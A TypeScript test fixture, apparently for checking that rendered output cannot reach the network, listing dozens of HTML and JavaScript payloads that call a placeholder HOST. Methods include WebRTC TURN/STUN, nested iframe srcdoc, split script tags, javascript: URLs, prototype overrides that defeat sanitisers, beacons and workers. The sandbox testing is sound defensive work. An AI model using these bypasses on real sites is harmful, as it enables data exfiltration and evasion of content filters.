/** What an output may try to reach the network with. `HOST` becomes a listener of its own for each. */

const script = (code: string) => `<script>${code}</script>`;
const link = (rel: string) =>
	script(
		`const l = document.createElement('link'); l.rel = '${rel}'; l.href = 'http://HOST/x'; document.head.append(l)`
	) + `<link rel="${rel}" href="http://HOST/x">`;
const CONNECT = `const c = new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [
	{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=udp', username: 'typed', credential: 'c' },
	{ urls: 'turn:HOST?transport=tcp', username: 'typed', credential: 'c' }] });
	c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));`;
const within = (code: string) => `&lt;script&gt;${code.replaceAll('"', '&quot;')}&lt;/script&gt;`;

export const NETWORK: Readonly<Record<string, string>> = {
	webrtc: script(CONNECT),
	'webrtc in a document within': `<iframe srcdoc="${within(CONNECT)}"></iframe>`,
	'webrtc in one that a script makes': script(
		`const f = document.createElement('iframe'); f.srcdoc = '<scr' + 'ipt>' + ${JSON.stringify(CONNECT)} + '</scr' + 'ipt>'; document.body.append(f)`
	),
	'webrtc in a written document': script(
		`document.write('<ifr'); document.write('ame srcdoc="<scr' + 'ipt>' + ${JSON.stringify(CONNECT)} + '</scr' + 'ipt>"></ifr' + 'ame>')`
	),
	'webrtc in the place of this document': script(
		`location = 'javascript:' + JSON.stringify('<scr' + 'ipt>' + ${JSON.stringify(CONNECT)} + '</scr' + 'ipt>')`
	),
	'webrtc with methods replaced': script(
		`RegExp.prototype.exec = () => null; RegExp.prototype[Symbol.replace] = (s) => s; String.prototype.replace = (s) => s;
		document.body.insertAdjacentHTML('beforeend', '<ifr' + 'ame srcdoc="&lt;script&gt;' + ${JSON.stringify(CONNECT)} + '&lt;/script&gt;"></ifr' + 'ame>')`
	),
	preconnect: link('preconnect'),
	'dns-prefetch': link('dns-prefetch'),
	prefetch: link('prefetch'),
	prerender: link('prerender'),
	modulepreload: link('modulepreload'),
	stylesheet: link('stylesheet'),
	icon: link('icon'),
	manifest: link('manifest'),
	'speculation rules': script(
		`const s = document.createElement('script'); s.type = 'speculationrules';
		s.textContent = '{"prefetch":[{"urls":["http://HOST/x"]}],"prerender":[{"urls":["http://HOST/y"]}]}'; document.head.append(s)`
	),
	navigation: script(`location = 'http://HOST/x'`),
	'navigation under TLS': script(`location = 'https://HOST/x'`),
	'a link that a script presses': script(
		`const a = document.createElement('a'); a.href = 'http://HOST/x'; document.body.append(a); a.click()`
	),
	'a link with a ping': script(
		`const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/x'; document.body.append(a); a.click()`
	),
	refresh: `<meta http-equiv="refresh" content="0;url=http://HOST/x">`,
	'a form': `<form id="f" action="http://HOST/x"><input name="a"></form>${script('f.submit()')}`,
	'a window': script(`window.open?.('http://HOST/x')`),
	'the window around': script(`try { top.location = 'http://HOST/x' } catch {}`),
	iframe: `<iframe src="http://HOST/x"></iframe>`,
	'iframe by script': script(
		`const f = document.createElement('iframe'); f.src = 'http://HOST/x'; document.body.append(f)`
	),
	object: `<object data="http://HOST/x"></object><embed src="http://HOST/y">`,
	image: `<img src="http://HOST/x" srcset="http://HOST/y 2x"><svg><image href="http://HOST/z"/><use href="http://HOST/u#a"/></svg>`,
	media: `<video src="http://HOST/x" poster="http://HOST/p"><track default src="http://HOST/t"></video><audio src="http://HOST/y" autoplay></audio>`,
	css: `<style>@import url(http://HOST/i); body { background: url(http://HOST/x) } @font-face { font-family: q; src: url(http://HOST/f) } b { font-family: q }</style><b>text</b>`,
	script: `<script src="http://HOST/x"></script>${script(`import('http://HOST/y').catch(() => 0)`)}`,
	fetch: script(
		`fetch('http://HOST/x').catch(() => 0); navigator.sendBeacon('http://HOST/y', 'z')`
	),
	'event source': script(`new EventSource('http://HOST/x')`),
	'web socket': script(`new WebSocket('ws://HOST/x')`),
	'web transport': script(`new WebTransport('https://HOST/x')`),
	later: script(`fetchLater('http://HOST/x', { activateAfter: 0 })`),
	worker: script(
		`new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/x').catch(() => 0); new WebSocket('ws://HOST/y'); importScripts('http://HOST/z')"])))`
	)
};
